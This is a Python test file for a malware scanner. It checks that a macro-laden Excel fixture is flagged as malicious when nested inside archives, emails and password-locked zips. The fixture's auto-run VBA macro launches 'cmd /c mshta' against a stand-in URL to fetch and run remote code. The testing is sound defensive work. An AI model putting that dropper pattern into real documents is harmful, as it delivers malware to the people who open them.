"""Whatever is put around a document, what it fetches is found; and what was hidden is never called clean."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import tarfile
from collections.abc import Callable
from functools import cache
from typing import Final

import pytest
from fixturelib import mails, outlook
from fixturelib.archives import Member, zip_file
from fixturelib.build import build
from hypothesis import given, settings
from hypothesis import strategies as st
from mutate import mutate

from emoscan.analyse import analyse
from emoscan.budget import Limits
from emoscan.context import Settings
from emoscan.report import Report

PASSWORDS: Final = ("4711", "Kv7-2290", "ujy55", "パス9901", "826")
PHRASES: Final = (
    "Password: {}",
    "添付ファイルの解凍パスワード：{}",
    "Das Passwort lautet {}",
    "La password è: {}",
    "Contraseña: {}",
    "Mot de passe : {}",
    "A senha é: {}",
    "Het wachtwoord is {}",
    "Hasło: {}",
)
URL: Final = "http://files.example.test/nested.hta"

Wrap = Callable[[bytes, str, random.Random], tuple[bytes, str]]
"""(content, its name, chance) → what holds it, its name."""


@cache
def document() -> bytes:
    """A workbook with a macro that fetches URL."""
    from fixturelib import excel
    from fixturelib.ovba import Module, Project

    source = f'Sub Workbook_Open()\n    CreateObject("WScript.Shell").Run "cmd /c mshta {URL}", 0\nEnd Sub\n'
    modules = [
        Module("ThisWorkbook", type="document", base="0{00020819-0000-0000-C000-000000000046}", source=source),
        Module("Sheet1", type="document", base="0{00020820-0000-0000-C000-000000000046}"),
    ]
    return excel.Workbook([excel.Sheet("Sheet1", cells={"A1": "x"}, code_name="Sheet1")], vba=Project(modules)).file()


def _zip(data: bytes, name: str, chance: random.Random) -> tuple[bytes, str]:
    return zip_file([Member("readme.txt", b"see the other file"), Member(name, data, method=chance.choice((0, 8)))]), "a.zip"


def _tar(data: bytes, name: str, _: random.Random) -> tuple[bytes, str]:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue(), "a.tar"


def _eml(data: bytes, name: str, _: random.Random) -> tuple[bytes, str]:
    return mails.mail(
        [("From", "a@b.example"), ("To", "c@d.example"), ("Subject", "x")],
        mails.mixed(mails.text("see attached"), mails.attachment(name, data)),
    ), "a.eml"


def _msg(data: bytes, name: str, _: random.Random) -> tuple[bytes, str]:
    return outlook.Message([(outlook.SUBJECT, outlook.TEXT16, "x")], (), [outlook.Attached(name, data)]).file(), "a.msg"


def _tnef(data: bytes, name: str, _: random.Random) -> tuple[bytes, str]:
    return outlook.tnef(outlook.Message([(outlook.SUBJECT, outlook.TEXT16, "x")], (), [outlook.Attached(name, data)])), "winmail.dat"


def _mbox(data: bytes, name: str, chance: random.Random) -> tuple[bytes, str]:
    line = b"From a@b.example Mon Mar  8 17:40:03 2021\n"
    return line + _eml(b"hello", "note.txt", chance)[0] + b"\n\n" + line + _eml(data, name, chance)[0] + b"\n\n", "inbox"


def _locked(data: bytes, name: str, chance: random.Random) -> tuple[bytes, str]:
    """A locked archive in a mail that says the password in one of nine languages."""
    password = chance.choice(PASSWORDS)
    archive = zip_file([Member(name, data, encryption=chance.choice(("zipcrypto", "aes128", "aes256")), password=password)])
    body = mails.text(chance.choice(PHRASES).format(password), chance.choice(("utf-8", "iso-2022-jp")) if password.isascii() else "utf-8")
    return mails.mail([("From", "a@b.example"), ("To", "c@d.example")], mails.mixed(body, mails.attachment("a.zip", archive))), "a.eml"


WRAPS: Final[tuple[Wrap, ...]] = (
    _zip,
    _tar,
    _eml,
    _msg,
    _tnef,
    _mbox,
    _locked,
    lambda data, name, _: (gzip.compress(data, mtime=0), name + ".gz"),
    lambda data, name, _: (bz2.compress(data), name + ".bz2"),
    lambda data, name, _: (lzma.compress(data), name + ".xz"),
)


def scan(data: bytes, name: str) -> Report:
    return analyse(data, name, name, Settings(limits=Limits().replace(depth=32)))


def nested(around: list[Wrap], seed: int) -> tuple[bytes, str]:
    chance = random.Random(seed)
    data, name = document(), "book.xls"
    for wrap in around:
        data, name = wrap(data, name, chance)
    return data, name


@given(st.lists(st.sampled_from(WRAPS), min_size=1, max_size=5), st.integers(0, 1 << 30))
@settings(max_examples=40)
def test_any_container_around_a_document(around: list[Wrap], seed: int) -> None:
    report = scan(*nested(around, seed))
    assert [ioc.value for ioc in report.iocs if ioc.role == "download"] == [URL], report.incomplete
    assert report.verdict == "malicious"
    assert not report.incomplete


@given(st.lists(st.sampled_from(WRAPS), min_size=1, max_size=3), st.integers(0, 1 << 30))
@settings(max_examples=40)
def test_damaged_containers_are_never_clean(around: list[Wrap], seed: int) -> None:
    """Cut off or with bytes changed: the document is found, or it is said that something was not read."""
    data, name = nested(around, seed)
    damaged = mutate(data, seed, [data])
    report = scan(damaged, name)
    assert not [problem for problem in report.incomplete if problem.sort == "failed"]
    if not any(ioc.value == URL for ioc in report.iocs) and report.verdict == "clean":
        # Nothing of it is left: neither its bytes, nor a container that held them.
        assert not hidden(damaged), "something was hidden and the verdict is clean"


def hidden(data: bytes) -> bool:
    """Whether a container with a checksum is still told by its beginning."""
    return data.startswith((b"PK\3\4", b"\x1f\x8b", b"BZh", b"\xfd7zXZ"))


@pytest.mark.parametrize("case", ["B03-ppap-1-archive", "F28-password-in-picture"])
def test_what_stays_shut_is_not_clean(case: str) -> None:
    name, data = build(case)
    for wrap in WRAPS[:6]:
        assert scan(*wrap(data, name, random.Random(1))).verdict == "incomplete"
